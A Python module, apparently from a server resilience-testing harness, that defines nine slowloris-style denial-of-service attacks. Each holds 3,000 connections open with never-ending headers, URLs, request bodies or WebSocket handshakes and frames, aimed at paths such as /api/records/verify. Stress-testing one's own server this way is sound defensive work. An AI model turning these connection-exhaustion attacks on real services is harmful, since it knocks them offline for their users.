"""Attacks by those who take their time: as many connections as one process can hold, and hardly a byte over each."""

from typing import Final

from attacks.aim import Aim, Attack
from attacks.frames import UPGRADED, frame, upgrade
from attacks.heads import JSON, head, unfinished
from attacks.lines import Script, lines

MANY: Final = 3_000
PAUSE: Final = 2.0
"""Seconds until one that was turned away comes again."""


def slow(opening: bytes, drip: bytes = b"x", awaited: bytes = b"", then: bytes = b"", every: float = 5.0) -> Script:
    return Script(opening, awaited, then, drip=drip, every=every, pause=PAUSE)


def live(aim: Aim) -> bytes:
    return upgrade(aim.table)


ATTACKS: Final[dict[str, Attack]] = {
    "slow-silent": Attack("connections that say nothing", lines(lambda aim: Script(pause=PAUSE), MANY)),
    "slow-headers": Attack(
        "headers that never end, a letter at a time", lines(lambda aim: slow(unfinished("GET", "/") + b"X: "), MANY)
    ),
    "slow-url": Attack("a URL that never ends, a letter at a time", lines(lambda aim: slow(b"GET /"), MANY)),
    "slow-bodies": Attack(
        "bodies that never end, a byte at a time",
        lines(lambda aim: slow(head("POST", "/api/records/verify", f"{JSON}Content-Length: 190000\r\n")), MANY),
    ),
    "slow-bodies-unwanted": Attack(
        "such bodies where none is wanted",
        lines(lambda aim: slow(head("GET", "/api/health", f"{JSON}Content-Length: 190000\r\n")), MANY),
    ),
    "slow-upgrade": Attack(
        "WebSockets whose handshake never ends", lines(lambda aim: slow(live(aim)[:-2] + b"X: "), MANY)
    ),
    "slow-hello": Attack(
        "WebSockets without a hello",
        lines(lambda aim: slow(live(aim), frame(10), awaited=UPGRADED), MANY),
    ),
    "slow-frame": Attack(
        "WebSockets whose first frame never ends",
        lines(lambda aim: slow(live(aim), awaited=UPGRADED, then=frame(1, bytes(3_000))[:8]), MANY),
    ),
    "slow-kept": Attack(
        "connections that ask once in four seconds, and stay",
        lines(lambda aim: slow(head("GET", "/api/nothing"), head("GET", "/api/nothing"), every=4.0), MANY),
    ),
}
